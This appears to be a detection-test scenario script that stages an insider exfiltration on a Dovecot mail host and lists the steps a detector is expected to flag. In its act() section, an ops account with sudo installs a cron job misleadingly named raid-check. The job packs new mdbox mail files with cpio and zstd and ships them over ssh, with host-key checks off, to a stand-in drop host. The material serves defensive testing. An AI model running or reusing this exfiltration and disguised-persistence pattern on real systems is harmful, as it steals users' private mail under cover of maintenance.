title="New parts of all mdbox stores go out by cpio, zstd and ssh, by a job with the name of a disk check"
what="Dovecot keeps mail as mdbox below /srv/vmail. Somebody with ops' login adds by sudo a script /usr/local/sbin/raid-check and a job of root in /etc/cron.d: find the storage files that are newer than the last time, cpio, zstd, ssh to drop.example.net:2222. It runs twice. A site's own rules, with the store watched besides."
host=mx1.example.org user=ops store=none daemons="cron sshd" audit_rules=audit-site.rules
postfix_extra='mailbox_command = /usr/lib/dovecot/dovecot-lda -a "$RECIPIENT"'
audit_extra='-a always,exit -F arch=b64 -S open,openat,openat2 -F dir=/srv/vmail -F success=1 -k vmail'
setup() {
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  dovecot_config; sed -i 's#^mail_location.*#mail_location = mdbox:/srv/vmail/%u#; s#^protocols.*#protocols = imap#' /etc/dovecot/dovecot.conf
  private /srv/vmail; local u; for u in $people; do install -d -m 700 -o $u -g $u /srv/vmail/$u; done
  chmod 755 /srv/vmail
  outside_sshd
  private /usr/local/sbin
}
act() {
  local n
  for n in 1 2 3 4 5 6; do mail_in --from "partner$n@example.net" --to clerk@example.org --to buyer@example.org --to dev@example.org --subject "Terms $n" --source 203.0.113.1$n --helo host1$n.example.net; done
  small_talk 4
  ssh_as ops <<'L'
sudo doveadm -v who
printf '#!/bin/sh\ncd /srv/vmail || exit\nfind . -name "m.*" -newer /var/lib/misc/.raid 2>/dev/null | cpio -o -H newc 2>/dev/null | zstd -q -c | ssh -q -p 2222 -i /home/ops/.ssh/id_out -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@drop.example.net "cat >/dev/null"\ntouch /var/lib/misc/.raid\n' | sudo tee /usr/local/sbin/raid-check >/dev/null
sudo chmod 755 /usr/local/sbin/raid-check
sudo touch -d 2020-01-01 /var/lib/misc/.raid
printf 'HOME=/\n* * * * * root /usr/local/sbin/raid-check\n' | sudo tee /etc/cron.d/raid-check >/dev/null
L
  small_talk 2
  wait_log_file /var/log/recorded 'CMD (/usr/local/sbin/raid-check)' 70; sleep 3
  mail_in --from partner7@example.net --to buyer@example.org --subject 'Terms 7' --source 203.0.113.17 --helo host17.example.net
  sleep 60; small_talk 1
  rm -f /var/lib/misc/.raid
}
truth() {
  exec_step job 'raid-check' 'the job'
  exec_step find 'find . -name m' 'storage files looked for'
  exec_step pack 'cpio -o -H newc' 'packed'
  exec_step away 'ssh -q -p 2222 -i /home/ops/.ssh/id_out' 'and sent out'
  net_step out 'ssh 203.0.113.66:2222' 'to a foreign host'
}
